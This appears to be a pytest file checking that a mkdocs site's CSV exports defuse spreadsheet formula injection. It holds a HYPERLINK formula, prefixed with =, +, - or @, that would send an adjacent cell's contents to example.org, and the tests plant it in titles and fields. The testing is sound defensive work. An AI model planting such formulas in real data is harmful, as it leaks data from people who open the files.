"""No file that opens in a spreadsheet holds a cell that the spreadsheet would run."""

import csv
import io

import pytest

from tests.trust.sites import catalogue_files, mkdocs, write_project

SIGNS = "=+-@"
FORMULA = '{sign}HYPERLINK("https://example.org/?"&A1)'


@pytest.fixture(scope="module")
def tables(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[list[str]]]:
    """Every CSV of a site in which each text that ends in a table begins with a sign that a formula begins with."""
    made = catalogue_files()
    for number, sign in enumerate(SIGNS):
        formula = FORMULA.format(sign=sign)
        for name in ("index.md", "promises.yml", "participants.csv"):
            text = str(made[f"first/{name}"])
            quoted = "'" + formula + "'"
            if name == "index.md":
                text = text.replace("title: תהליך ראשון", f"title: {quoted}").replace(
                    "status: closing", "status: closed"
                )
                text = text.replace("closing:\n", f"closing:\n  waived: {{promises: {quoted}}}\n")
            elif name == "promises.yml":
                text = text.replace("לפרסם סיכום", quoted)
            else:
                text = text.replace("עמותת הגשר", '"' + formula.replace('"', '""') + '"')
            made[f"sign-{number}/{name}"] = text
        for name, content in list(made.items()):
            if name.startswith("first/") and name.partition("/")[2] not in (
                "index.md",
                "promises.yml",
                "participants.csv",
            ):
                made[f"sign-{number}/{name.partition('/')[2]}"] = content
    folder = write_project(tmp_path_factory.mktemp("formulas"), made)
    done = mkdocs(folder)
    assert done.returncode == 0, done.stdout + done.stderr
    return {
        path.relative_to(folder / "site").as_posix(): list(csv.reader(io.StringIO(path.read_text("utf-8-sig"))))
        for path in (folder / "site").rglob("*.csv")
    }


def test_no_cell_of_any_table_begins_as_a_formula_does(tables: dict[str, list[list[str]]]) -> None:
    """Whoever opens the file would otherwise send what stands beside it to a stranger."""
    assert "closing/closing.csv" in tables
    cells = [(name, cell) for name, rows in tables.items() for row in rows for cell in row]
    assert [each for each in cells if each[1].startswith(tuple(SIGNS))] == []


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize(
    "table", ["closing/closing.csv", "data/processes.csv", "data/promises.csv", "data/participants.csv"]
)
def test_the_text_is_there_behind_an_apostrophe(tables: dict[str, list[list[str]]], table: str, sign: str) -> None:
    """A title that begins with a sign is a title: it is shown, not dropped."""
    assert f"'{FORMULA.format(sign=sign)}" in {cell for row in tables[table] for cell in row}
